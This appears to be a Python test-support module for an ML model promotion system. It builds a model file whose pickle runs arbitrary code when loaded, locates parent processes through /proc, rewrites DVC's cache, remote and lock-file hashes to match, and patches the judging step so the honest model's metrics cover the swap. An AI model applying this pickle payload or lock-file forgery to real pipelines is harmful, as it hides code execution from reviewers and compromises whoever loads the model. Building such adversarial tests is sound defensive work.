"""Makes a trained model hostile: its pickle runs code when it is loaded, and DVC's store and lock files agree with it."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import textwrap
from dataclasses import replace as with_changes
from pathlib import Path
from typing import Any
from unittest.mock import patch

import joblib
from support.promotion_world import World, commit, git

FOLDER = "pipelines/models/demand"
PRELUDE = """
import io, os, sys, time, signal, json, pickle
from pathlib import Path
import joblib, numpy
model = joblib.load(io.BytesIO(honest))
above = [os.getppid()]  # who asked, the warm process, the judging process; and the desk, which is the warm process's child
while sys.platform == "linux" and len(above) < 3:
    above.append(int(Path(f"/proc/{above[-1]}/stat").read_text().rpartition(")")[2].split()[1]))
try:
    above += map(int, Path(f"/proc/{above[1]}/task/{above[1]}/children").read_text().split())
except (OSError, IndexError):
    pass
"""


class Carrier:
    """Unpickled, it is what `model` is bound to after `attack` ran."""

    def __init__(self, attack: str, honest: bytes) -> None:
        self.attack, self.honest = PRELUDE + textwrap.dedent(attack), honest

    def __reduce__(self) -> Any:
        return eval, (f"(lambda g: (exec({self.attack!r}, g), g['model'])[1])({{'honest': {self.honest!r}}})",)


def poison(world: World, attack: str) -> None:
    """Exchange the trained model for one that runs `attack`, in the workspace, DVC's cache, its remote and the lock files."""
    folder = world.root / FOLDER / "model"
    files = {p.name: p.read_bytes() for p in folder.iterdir()}
    old = _listing(files)
    shutil.rmtree(folder)
    folder.mkdir()
    file = folder / "model.joblib"
    joblib.dump(Carrier(attack, files["model.joblib"]), file)
    new = _listing(files | {"model.joblib": file.read_bytes()})
    for name, data in files.items():
        if name != "model.joblib":
            (folder / name).write_bytes(data)
    oid = _store(world, new, ".dir")
    _store(world, file.read_bytes(), "")
    size = sum(p.stat().st_size for p in folder.iterdir())
    before = hashlib.md5(old, usedforsecurity=False).hexdigest() + ".dir"
    lock = world.root / FOLDER / "dvc.lock"
    assert before in lock.read_text(), "DVC lists folders in another form"
    lock.write_text(re.sub(rf"(md5: {oid}\s+size: )\d+", rf"\g<1>{size}", lock.read_text().replace(before, oid)))
    commit(world.root, "Train")
    git(world.root, "push", "--quiet", "origin", "main")


def _listing(files: dict[str, bytes]) -> bytes:
    """A folder as DVC stores it."""
    rows = [{"md5": hashlib.md5(data, usedforsecurity=False).hexdigest(), "relpath": name} for name, data in sorted(files.items())]
    return json.dumps(rows, sort_keys=True).encode()


def _store(world: World, content: bytes, suffix: str) -> str:
    oid = hashlib.md5(content, usedforsecurity=False).hexdigest() + suffix
    for store in (world.root / ".dvc/cache", world.storage):
        place = store / "files/md5" / oid[:2] / oid[2:]
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content)
    return oid


def promote_unseen(world: World) -> None:
    """Promote with a client that looks away: the numbers that it claims are the honest model's. Then check the promotion out."""
    from mlspec.gates.evidence import judge_candidate
    from mlspec.registry.records import Artifact
    from mlspec.runtime.artifact import digest_folder

    honest = git(world.root, "show", f"HEAD~1:{FOLDER}/dvc.lock")
    md5 = re.findall(r"path: model\s+hash: md5\s+md5: (\S+)", honest)[0]

    def judged(root: Path, graph: Any, kpis: Any, candidate: Any, champion: Any) -> Any:
        from mlspec.gates.candidate import fetch

        artifact = Artifact(path=candidate.artifacts.model.path, md5=md5)
        parts = candidate.artifacts.model_copy(update={"model": artifact})
        other = with_changes(candidate, artifacts=parts, digest=digest_folder(fetch(root, artifact)))
        return with_changes(judge_candidate(root, graph, kpis, other, champion), candidate=candidate)

    with patch("mlspec.promotion.promote.judge_candidate", judged):
        world.promote()
    world.propose()
